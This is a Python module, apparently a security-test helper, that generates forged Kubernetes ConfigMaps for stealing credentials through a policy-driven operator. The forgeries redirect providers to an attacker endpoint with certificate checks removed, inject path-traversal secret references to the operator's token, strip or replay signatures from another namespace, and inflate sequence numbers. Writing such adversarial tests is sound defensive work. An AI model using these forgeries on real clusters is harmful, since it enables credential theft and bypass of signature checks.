"""What a user who may write ConfigMaps can put in the place of a generated one, to steal a credential."""

import copy
import json

POLICY, SIGNATURES = "policy.v1.json", "policy.v1.sig"


def forgeries(map, of_another, endpoint):
    """Variants of the ConfigMap `map`, by name, in which everything points to an attacker's server. `of_another`
    is another namespace's ConfigMap, whose signature is valid there."""
    redirected = led_to(endpoint, map["data"][POLICY])
    files = json.loads(json.dumps(redirected))
    for credential in (one for provider in files["providers"] for one in provider["credentials"]):
        # The token that the operator delivers credentials for.
        credential["secret"] = {"namespace": "..", "name": "..", "key": "token/token"}
    newest = redirected | {"sequence": redirected["sequence"] + 1_000_000}
    return {
        "redirected": changed(map, redirected),
        "unsigned": changed(map, redirected, signatures=None),
        "signed-elsewhere": changed(map, led_to(endpoint, of_another["data"][POLICY]), of_another["data"][SIGNATURES]),
        "of-elsewhere": changed(map, of_another["data"][POLICY], of_another["data"][SIGNATURES]),
        "reads-files": changed(map, files),
        "newest": changed(map, newest, "{}"),
    }


def led_to(endpoint, document):
    """The same policy with all its providers at one address, without a check of certificates."""
    document = json.loads(document)
    for provider in document["providers"]:
        provider |= {"endpoint": endpoint, "clearTextCredentials": True}
        provider.pop("ca", None)
    return document


def changed(map, document, signatures=""):
    """The same ConfigMap with another policy, and with its own, other or no signatures."""
    # Objects from a list or a watch have neither.
    forged = {"apiVersion": "v1", "kind": "ConfigMap"} | copy.deepcopy(map)
    # Overwrites whatever is stored.
    for field in ("resourceVersion", "uid", "managedFields", "creationTimestamp"):
        forged["metadata"].pop(field, None)
    forged["data"][POLICY] = document if isinstance(document, str) else json.dumps(document)
    if signatures is None:
        del forged["data"][SIGNATURES]
    elif signatures:
        forged["data"][SIGNATURES] = signatures
    return forged


def as_secret(map, object):
    """The files that a Secret of the same name would put over the ConfigMap's."""
    metadata = {"name": map["metadata"]["name"], "namespace": map["metadata"]["namespace"]}
    data = {name: object["data"][name] for name in (POLICY, SIGNATURES) if name in object["data"]}
    return {"apiVersion": "v1", "kind": "Secret", "metadata": metadata, "stringData": data}
